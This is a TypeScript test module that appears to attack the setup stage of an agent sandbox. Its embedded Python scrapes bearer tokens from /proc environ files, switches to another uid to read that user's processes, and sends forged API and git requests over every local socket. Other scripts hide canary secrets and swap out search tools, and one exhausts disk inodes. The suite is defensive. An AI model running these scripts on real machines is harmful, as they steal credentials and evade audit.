import { PROTOCOL_HEADER, PROTOCOL_VERSION } from "@farhand/protocol";
import { type Arena, LIMITS } from "./arena.ts";
import type { Attack, Attempt } from "./attack.ts";
import { type WithoutWall, withTheEnginesSocket } from "./containers.ts";
import { withTheNaiveGateway } from "./naive-gateway.ts";
import { playSetup, SECRET } from "./setup-ground.ts";
import { newWord } from "./targets.ts";

const AREA = "setup";
const DOOR = "a door of the setup's own, which leads to the network alone";
const SEARCH = "a search of what was changed, from outside";
const TO_THE_END = "ran-to-the-end";

/** Longer than a base64 line, as keys are. */
const newSecret = () => `canary-${newWord()}-${newWord()}-${newWord()}`;

/** What a hostile package's install script would try first: every token that it can read, at every socket there is. */
const CLIENT = `import glob, os, socket
def look():
    found = set()
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            for part in open(path, "rb").read().split(b"\\0"):
                if part.startswith(b"FARHAND_ATTEMPT_TOKEN="): found.add(part.split(b"=", 1)[1])
        except OSError: pass
    return found
tokens = look()
# Another user's processes show themselves to that user alone: so become it.
read, write = os.pipe()
if os.fork() == 0:
    try: os.setgroups([]); os.setgid(10001); os.setuid(10001)
    except OSError as error: print("stays root:", error)
    os.write(write, b"\\n".join(look())); os._exit(0)
os.close(write)
tokens |= set(open(read, "rb").read().split())
print("tokens:", len(tokens))
doors = {os.path.realpath(os.path.join(root, name)) for top in ("/run", "/var/run", "/tmp") for root, _, names in os.walk(top) for name in names}
def say(path, data):
    try:
        s = socket.socket(socket.AF_UNIX); s.settimeout(4); s.connect(path); s.sendall(data); got = b""
        while len(got) < 100000:
            more = s.recv(65536)
            if not more: break
            got += more
    except OSError as error: got = got if "got" in dir() else str(error).encode()
    return got.decode("latin1")
def everywhere(name, method, target, body=b""):
    for path in sorted(doors):
        for token in sorted(tokens):
            head = b"%s %s HTTP/1.1\\r\\nhost: localhost\\r\\nauthorization: Bearer %s\\r\\nx-api-key: %s\\r\\n${PROTOCOL_HEADER}: ${PROTOCOL_VERSION}\\r\\nanthropic-version: 2023-06-01\\r\\ncontent-type: application/json\\r\\ncontent-length: %d\\r\\nconnection: close\\r\\n\\r\\n" % (method, target, token, token, len(body))
            for line in (b"", b"Bearer " + token + b"\\r\\n"):
                answer = say(path, line + head + body).split("\\r\\n")[0][:60]
                print(name, os.path.basename(path), "with its line" if line else "plainly", "->", answer)
`;

/** What the setup is for works: it reaches an allowed host, with the token that it has. */
const WAY_IN = `import urllib.request
try:
    if b"taken by" in urllib.request.urlopen("http://allowed.example.com/", timeout=5).read(): print("the way in is open")
except OSError as error: print("no way:", error)
`;

const python = (text: string) => `python3 - <<'PYTHON'\n${text}PYTHON\necho ${TO_THE_END}\n`;

/** An answer that is no refusal, over any socket. 409 is a gap: events of that kind are taken. */
const wasLetIn = (output: string) => / -> HTTP\/1\.1 (2\d\d|409)/.test(output) || / FOUND /.test(output);

interface DoorAttack {
  name: string;
  /** What it runs after the client's text. */
  text: string;
  without?: WithoutWall;
}

/** All of them are tried by one setup, each after a line with its name. */
const triedOnce = new WeakMap<Arena, Promise<string>>();

async function tryDoors(arena: Arena, attacks: readonly DoorAttack[]): Promise<string> {
  const parts = attacks.map(({ name, text }) => `print(${JSON.stringify(headOf(name))})\n${text}`);
  const script = python([CLIENT, WAY_IN, ...parts].join("\n"));
  const { printed, failure } = await playSetup(arena, { script, secret: newSecret(), agent: "true" });
  const output = printed ?? failure;
  for (const proof of [TO_THE_END, "tokens: 1", "the way in is open"])
    if (!output.includes(proof)) throw new Error(`not tried, without "${proof}": ${output.slice(-500)}`);
  return output;
}

const headOf = (name: string) => `== ${name} ==`;

function throughADoor(attack: DoorAttack): Attack {
  const { name, text, without = withTheNaiveGateway } = attack;
  const judged = (output: string): Attempt => ({
    succeeded: wasLetIn(output),
    evidence: output.slice(-400),
  });
  return {
    area: AREA,
    name,
    by: DOOR,
    async try(arena) {
      const tried = triedOnce.get(arena) ?? tryDoors(arena, DOORS);
      triedOnce.set(arena, tried);
      const [, after] = (await tried).split(headOf(name));
      if (after === undefined) throw new Error(`not tried: ${await tried}`);
      return judged(after.split("\n== ")[0] ?? "");
    },
    async control(arena) {
      const { output } = await arena.control(without).run(python(CLIENT + text), { user: "0:0" });
      return judged(output);
    },
  };
}

const messages = JSON.stringify({
  model: "claude-sonnet-5-5",
  max_tokens: 16,
  messages: [{ role: "user", content: "hi" }],
});
const events = JSON.stringify({
  events: [
    {
      n: 100_000,
      at: new Date(0).toISOString(),
      event: { type: "notice", level: "info", code: "x", message: "all is well" },
    },
  ],
});

const DOORS: readonly DoorAttack[] = [
  {
    name: "the attempt's token, which speaks for the worker",
    // The setup's own begins otherwise.
    text: `print("a token FOUND in there" if any(token.startswith(b"fha_") for token in tokens) else "none")\n`,
  },
  {
    name: "asking the model, at the user's cost",
    text: `everywhere("models", b"GET", b"/v1/models")\neverywhere("messages", b"POST", b"/v1/messages", ${JSON.stringify(messages)}.encode())\n`,
  },
  {
    name: "reporting as the worker",
    text: `everywhere("events", b"POST", b"/farhand/v1/events", ${JSON.stringify(events)}.encode())\neverywhere("assignment", b"GET", b"/farhand/v1/assignment?after=0")\n`,
  },
  {
    name: "pushing to the task's branch",
    text: `everywhere("refs", b"GET", b"/git/task.git/info/refs?service=git-receive-pack")\n`,
  },
  {
    name: "any other socket",
    text: `for path in sorted(doors):
    if path != "/run/farhand/e.sock" and say(path, b"GET /_ping HTTP/1.0\\r\\n\\r\\n").startswith("HTTP/"): print("a socket FOUND at", path)
`,
    without: withTheEnginesSocket,
  },
];

/** Makes a sandbox what a setup's container is, as far as files go. */
const writable: WithoutWall = ({ HostConfig }) => {
  HostConfig.ReadonlyRootfs = false;
};
/** The same once more, for what leaves a container that is good for nothing. */
const writableOnce: WithoutWall = (settings, folder) => writable(settings, folder);

/** Whether the secret is in these bytes, told as hexadecimal digits: so nothing on the way cuts it out. */
function isIn(hex: string, secret: string): boolean {
  const text = Buffer.from(hex, "hex").toString("latin1");
  const unpacked = Buffer.from(text.replace(/\s/g, ""), "base64").toString("latin1");
  const [, line = ""] = secret.split("\n");
  const known = line === "" ? secret : line;
  return [text, unpacked].some((it) => it.includes(known));
}

const asHex = (command: string) =>
  `printf 'HEX:'; { ${command}; } 2>/dev/null | od -An -v -tx1 | tr -d ' \\n'; echo`;
const hexIn = (output: string | null) => /HEX:([0-9a-f]*)/.exec(output ?? "")?.[1] ?? "";

function leak(
  name: string,
  script: string,
  { look = "cat /opt/leak", newCanary = newSecret, without = writable } = {},
): Attack {
  return {
    area: AREA,
    name,
    by: SEARCH,
    async try(arena) {
      const secret = newCanary();
      const { agent, failure } = await playSetup(arena, { script, secret, agent: asHex(look) });
      if (agent !== null) return { succeeded: isIn(hexIn(agent), secret), evidence: agent.slice(-300) };
      if (!failure.includes("left a secret")) throw new Error(`the setup failed otherwise: ${failure}`);
      return { succeeded: false, evidence: failure };
    },
    async control(arena) {
      const secret = newCanary();
      const control = arena.control(without);
      const exported = `rm -rf /opt/leak; export ${SECRET}='${secret}'\n`;
      const made = await control.run(exported + script, { user: "0:0" });
      const { output } = await control.run(asHex(look));
      return { succeeded: isIn(hexIn(output), secret), evidence: `${made.output} ${output}`.slice(-300) };
    },
  };
}

const newKey = () =>
  ["-----BEGIN KEY-----", ...[1, 2, 3].map(() => btoa(newSecret()).slice(0, 64)), "-----END KEY-----"].join(
    "\n",
  );

const byItsFiles: Attack[] = [
  leak("a secret in a file", `printf 'token=%s\\n' "$${SECRET}" > /opt/leak`),
  leak(
    "a secret in a file, after an ordinary clean-up",
    `printf '%s' "$${SECRET}" > /opt/leak; rm -rf /tmp/* /tmp/.[!.]* /var/tmp/*`,
  ),
  leak(
    "a secret in a file, with every tool of a search exchanged",
    `printf '%s' "$${SECRET}" > /opt/leak; touch -d 2001-01-01 /opt/leak
for tool in find grep rg test; do for folder in /bin /usr/bin /usr/local/bin; do [ -e $folder/$tool ] && rm -f $folder/$tool && printf '#!/bin/sh\\nexit 1\\n' > $folder/$tool && chmod 755 $folder/$tool; done; done; true`,
    { without: writableOnce },
  ),
  leak(
    "a secret in base64, as npm and Docker keep it",
    `printf 'somebody:%s' "$${SECRET}" | base64 > /opt/leak; rm -rf /tmp/*`,
  ),
  leak("one line of a private key", `printf '%s\\n' "$${SECRET}" | sed -n 2p > /opt/leak`, {
    newCanary: newKey,
  }),
  leak("a secret as what a link leads to", `ln -s "$${SECRET}" /opt/leak`, { look: "readlink /opt/leak" }),
  leak(
    "a secret from a process that goes on after the script",
    `printf '%s' "$${SECRET}" > /opt/leak; (trap '' HUP TERM; while sleep 0.1; do rm -f /tmp/setup; done) >/dev/null 2>&1 &`,
  ),
];

/** What the engine tells of an image and of the containers on it, which nothing in them could search. */
const inTheImage: Attack = {
  area: AREA,
  name: "a secret in the image's environment or history",
  by: "it is given to one process, never to the container",
  async try(arena) {
    const secret = newSecret();
    const { agent, failure } = await playSetup(arena, {
      script: `printf '%s' "$${SECRET}" | sha256sum > /opt/used`,
      secret,
      agent: asHex("env; cat /proc/1/environ /proc/self/cmdline"),
    });
    if (agent === null) throw new Error(`the setup failed: ${failure}`);
    const images = await arena.engine.json<{ Id: string }[]>("GET", "/images/json");
    const told = await Promise.all(
      images.map(async ({ Id }) => JSON.stringify([await inspect(arena, Id), await history(arena, Id)])),
    );
    if (!told.some((it) => it.includes("farhand.setup"))) throw new Error("no setup was kept");
    return judge(secret, `${told.join("\n")}\n${Buffer.from(hexIn(agent), "hex").toString("latin1")}`);
  },
  async control(arena) {
    // A setup that hands the secret to the container, as most do.
    const secret = newSecret();
    const container = await arena.control(writable).container();
    const changes = encodeURIComponent(`ENV ${SECRET}=${secret}`);
    const { Id } = await arena.engine.json<{ Id: string }>(
      "POST",
      `/commit?container=${container}&repo=attacks-setup&changes=${changes}`,
    );
    const told = JSON.stringify([await inspect(arena, Id), await history(arena, Id)]);
    await arena.engine.call("DELETE", `/images/${Id}?force=1`);
    return judge(secret, told);
  },
};

const inspect = ({ engine }: Arena, id: string) => engine.json<object>("GET", `/images/${id}/json`);
const history = ({ engine }: Arena, id: string) => engine.json<object>("GET", `/images/${id}/history`);

function judge(secret: string, told: string): Attempt {
  const at = told.indexOf(secret);
  return {
    succeeded: at !== -1,
    evidence: at === -1 ? `${told.length} characters without it` : told.slice(Math.max(0, at - 60), at + 60),
  };
}

/** A few more than a setup may make. */
const FILES = LIMITS.setupFiles + 1000;
const filler = `python3 - <<'PYTHON'
import os
for n in range(${FILES}):
    if n % 1000 == 0: os.makedirs(f"/opt/many/{n // 1000}")
    os.close(os.open(f"/opt/many/{n // 1000}/{n}", os.O_CREAT | os.O_WRONLY))
print("files: ${FILES}")
PYTHON
`;

const inodes: Attack = {
  area: AREA,
  name: "using up the inodes of the machine's disk",
  by: "a limit on the files that a setup makes",
  async try(arena) {
    const { agent, failure } = await playSetup(arena, {
      script: filler,
      secret: newSecret(),
      agent: "ls /opt/many | wc -l",
    });
    if (agent === null && !failure.includes("files")) throw new Error(`it failed otherwise: ${failure}`);
    return { succeeded: agent !== null, evidence: agent ?? failure };
  },
  async control(arena) {
    const { output } = await arena.control(writable).run(filler, { user: "0:0" });
    return { succeeded: output.includes(`files: ${FILES}`), evidence: output.slice(-200) };
  },
};

export const setupAttacks: Attack[] = [...DOORS.map(throughADoor), ...byItsFiles, inTheImage, inodes];
